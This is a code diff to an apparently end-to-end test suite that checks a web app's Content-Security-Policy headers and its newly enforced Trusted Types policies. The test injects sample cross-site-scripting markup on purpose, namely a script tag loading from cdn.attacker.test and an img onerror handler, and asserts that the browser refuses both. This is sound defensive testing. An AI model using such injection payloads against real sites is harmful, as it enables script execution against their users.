@@ -13,6 +13,7 @@ import { endpoints } from '../../core/http/endpoints';
 import { ASSET_MANIFEST_PATHS } from '../../core/update/model';
 import { SMOKE_MERCHANT } from './global-setup';
 import { inlineHashes } from '../../scripts/vite-csp-hashes';
+import { TRUSTED_TYPES_POLICIES } from '../../adapters/browser/trusted-types-policies';
 import { CspEvaluator } from 'csp_evaluator/dist/evaluator.js';
 import { Severity } from 'csp_evaluator/dist/finding.js';
 import { CspParser } from 'csp_evaluator/dist/parser.js';
@@ -96,6 +97,9 @@ test.describe('nginx headers', () => {
     for (const source of policy.get('style-src') ?? []) expect(["'unsafe-inline'", 'https:', 'http:', '*', 'data:']).not.toContain(source);
     expect(policy.get('style-src-attr')).toEqual(["'unsafe-inline'"]);
     expect(policy.get('frame-src')).toEqual(["'self'", 'https:']);
+    // Trusted Types enforced (docs/decisions.md "Trusted Types"): exactly the policies the code creates.
+    expect(policy.get('require-trusted-types-for')).toEqual(["'script'"]);
+    expect(policy.get('trusted-types')).toEqual([...TRUSTED_TYPES_POLICIES]);
     // Google's CSP Evaluator (the library behind csp-evaluator.withgoogle.com): nothing high or medium.
     const findings = new CspEvaluator(new CspParser(csp).csp).evaluate().filter((finding) => finding.severity <= Severity.MEDIUM);
     expect(findings.map((finding) => `${finding.directive}: ${finding.description}`)).toEqual([]);
@@ -177,36 +181,29 @@ test.describe('nginx headers', () => {
 });
 
 interface Watched {
-  /** What the policy blocked. */
+  /** What the policy blocked, Trusted Types included. */
   readonly violations: () => Promise<string[]>;
-  /** What the report-only policy (Trusted Types, docs/decisions.md "Trusted Types") would have blocked. */
-  readonly reports: () => Promise<string[]>;
   readonly problems: string[];
 }
 
-/** Records CSP violations and reports (in the page, from its first script on), CSP / Permissions-Policy console lines, errors. */
+/** Records CSP violations (in the page, from its first script on), CSP / Permissions-Policy console lines, errors. */
 async function watch(page: Page): Promise<Watched> {
   const problems: string[] = [];
   await page.addInitScript(() => {
-    const w = window as unknown as { __csp: string[]; __cspReports: string[] };
+    const w = window as unknown as { __csp: string[] };
     w.__csp = [];
-    w.__cspReports = [];
     document.addEventListener('securitypolicyviolation', (event) => {
-      const line = `${event.effectiveDirective} blocked ${event.blockedURI || '(inline)'} ${event.sample}`.trim();
-      (event.disposition === 'report' ? w.__cspReports : w.__csp).push(line);
+      w.__csp.push(`${event.effectiveDirective} blocked ${event.blockedURI || '(inline)'} ${event.sample}`.trim());
     });
   });
   page.on('console', (message) => {
     const text = message.text();
-    // "[Report Only]" lines are the reports, read from the events above.
-    if (/^\[Report Only\]/.test(text)) return;
     if (message.type() === 'error' || /content.security.policy|permissions.policy|refused to/i.test(text)) problems.push(`console ${message.type()}: ${text}`);
   });
   page.on('pageerror', (error) => problems.push(`page error: ${error.message}`));
   return {
     problems,
     violations: () => page.evaluate(() => (window as unknown as { __csp: string[] }).__csp),
-    reports: () => page.evaluate(() => (window as unknown as { __cspReports: string[] }).__cspReports),
   };
 }
 
@@ -250,9 +247,6 @@ test.describe('the app under its Content-Security-Policy', () => {
     await expect.poll(pixelsAndViolations, { timeout: 15_000 }).toEqual({ pixels: everyPixel, violations: [] });
     await answered(page, [endpoints.trackingEvent.path, ...ASSET_MANIFEST_PATHS]);
     expect(await watched.violations()).toEqual([]);
-    // Trusted Types, reported only (docs/decisions.md "Trusted Types"): the boot loader, the pixels' scripts, the
-    // service worker's registration, the sanitised HTML all went through the app's policies.
-    expect(await watched.reports(), 'no Trusted Types report from the app\'s code').toEqual([]);
     expect(watched.problems).toEqual([]);
 
     // Every boot call reached the backend through nginx, as the merchant of the served app-config.json.
@@ -261,11 +255,13 @@ test.describe('the app under its Content-Security-Policy', () => {
     for (const request of boot) expect(request).toMatchObject({ merchant: SMOKE_MERCHANT, answered: true });
   });
 
-  test('the scripts and frames the app\'s code loads run (\'strict-dynamic\'); injected markup\'s scripts, inline code and plugins do not', async ({ page }) => {
+  test('the scripts and frames the app\'s code loads run (\'strict-dynamic\'); injected markup\'s scripts, inline code and plugins do not', async ({ page, policyViolations }) => {
     const watched = await watch(page);
     await answerThirdParties(page);
     await page.goto(`${origin()}/m/login`);
     await expect(page.getByRole('heading', { level: 1 })).toHaveText('Log in');
+    // Third parties run once the app's code does (its loaders insert them): by then its default policy is in place.
+    await page.waitForFunction(() => (window as unknown as { trustedTypes?: { defaultPolicy: unknown } }).trustedTypes?.defaultPolicy);
 
     const allowed = [
       ...geetestScriptUrls('v3'),
@@ -320,14 +316,24 @@ test.describe('the app under its Content-Security-Policy', () => {
       document.body.appendChild(frame);
       const framed = frame.contentWindow as (Window & { __parsedRan?: boolean; __thirdParty?: string[] }) | null;
       const written = frame.contentDocument!;
-      written.open();
-      written.write('<script src="https://cdn.attacker.test/x.js"></script><script>window.__parsedRan = true</script>');
-      written.close();
+      // The frame inherits the policy but not the page's default Trusted Types policy: the string write itself is refused.
+      try {
+        written.open();
+        written.write('<script src="https://cdn.attacker.test/x.js"></script><script>window.__parsedRan = true</script>');
+        written.close();
+      } catch {
+        outcomes.push('write refused');
+      }
       await new Promise((wait) => setTimeout(wait, 300));
       outcomes.push(framed?.__thirdParty?.length ? 'parsed remote loaded' : 'parsed remote refused', framed?.__parsedRan ? 'parsed inline ran' : 'parsed inline refused');
       const holder = document.createElement('div');
-      // One handler attribute: newer Chromium reports each inline handler as it is set, older ones as it would run.
-      holder.innerHTML = '<img src="/m/app-config.json" onerror="window.__handlerRan = true">';
+      // A handler in a plain string: the default policy sanitises it away (or refuses the string while its sanitiser
+      // downloads); were it kept, script-src-attr would block it.
+      try {
+        holder.innerHTML = '<img src="/m/app-config.json" onerror="window.__handlerRan = true">';
+      } catch {
+        outcomes.push('markup refused until sanitised');
+      }
       document.body.appendChild(holder);
       await new Promise((wait) => setTimeout(wait, 300));
       outcomes.push((window as unknown as { __handlerRan?: boolean }).__handlerRan ? 'handler ran' : 'handler refused');
@@ -337,11 +343,15 @@ test.describe('the app under its Content-Security-Policy', () => {
       await new Promise((wait) => setTimeout(wait, 300));
       return outcomes;
     });
-    expect(refused).toEqual(['parsed remote refused', 'parsed inline refused', 'handler refused']);
-    // The page's own reports (the written document reports to itself): the handler, the object.
+    expect(refused.filter((outcome) => outcome !== 'markup refused until sanitised')).toEqual(['write refused', 'parsed remote refused', 'parsed inline refused', 'handler refused']);
+    // The page's own reports (the written document reports to itself): the object; the refused string, if it was.
     const violations = (await watched.violations()).map((line) => line.split(' ').slice(0, 3).join(' '));
-    expect(violations).toEqual(expect.arrayContaining(['script-src-attr blocked inline', `object-src blocked ${origin()}/m/app-config.json`]));
-    expect(violations.every((line) => /^(script-src-elem|script-src-attr|object-src) blocked/.test(line)), violations.join('\n')).toBe(true);
+    expect(violations).toEqual(expect.arrayContaining([`object-src blocked ${origin()}/m/app-config.json`]));
+    expect(violations.every((line) => /^(require-trusted-types-for|script-src-elem|script-src-attr|object-src) blocked/.test(line)), violations.join('\n')).toBe(true);
+    // The markup string this test provoked, if the default policy refused it, is the one Trusted Types violation allowed here.
+    const provoked = policyViolations.filter((line) => line.includes('require-trusted-types-for blocked trusted-types-sink Element innerHTML|<img src="/m/app-config.json"'));
+    expect(policyViolations.filter((line) => !provoked.includes(line))).toEqual([]);
+    policyViolations.splice(0);
 
     // Nothing may frame the app (frame-ancestors 'none', X-Frame-Options DENY): the native wrapper opens it top-level.
     await page.evaluate((url) => {
